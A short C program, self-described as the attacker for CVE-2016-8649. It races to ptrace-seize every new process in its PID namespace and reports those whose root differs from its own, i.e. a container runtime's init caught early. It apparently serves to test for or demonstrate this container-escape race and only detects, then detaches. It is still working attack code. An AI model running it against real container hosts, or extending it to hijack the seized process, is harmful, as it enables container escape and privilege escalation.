/* SPDX-License-Identifier: MIT */
/* seizer -- the attacker of CVE-2016-8649: tries to ptrace whatever comes into
 * its pid namespace, as early as it can, until killed.  Prints a line for each
 * process: "refused" when it first was, "ordinary" for one that was seized and
 * has our root, "early" for one that has another: a runtime's init. */
#include <errno.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PIDS = 4096, AHEAD = 16, REFUSED = 1, SEIZED };

static struct stat root;

static void
look(int pid)
{
	char path[64];
	struct stat st;
	int status, same;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	snprintf(path, sizeof(path), "/proc/%d/root", pid);
	same = stat(path, &st) == 0 && st.st_dev == root.st_dev &&
		st.st_ino == root.st_ino;
	printf("%s %d\n", same ? "ordinary" : "early", pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

int
main(void)
{
	static char met[PIDS];
	int top = 1, self = getpid();

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/", &root))
		return 1;
	puts("ready");
	for (int pid = 1;; pid = pid < top + AHEAD ? pid + 1 : 1) {
		if (pid >= PIDS || pid == self || met[pid] == SEIZED)
			continue;
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			met[pid] = SEIZED;
			look(pid);
		} else if (errno == ESRCH) {
			continue;
		} else if (!met[pid]) {
			met[pid] = REFUSED;
			printf("refused %d\n", pid);
		}
		if (pid > top)
			top = pid;
	}
}
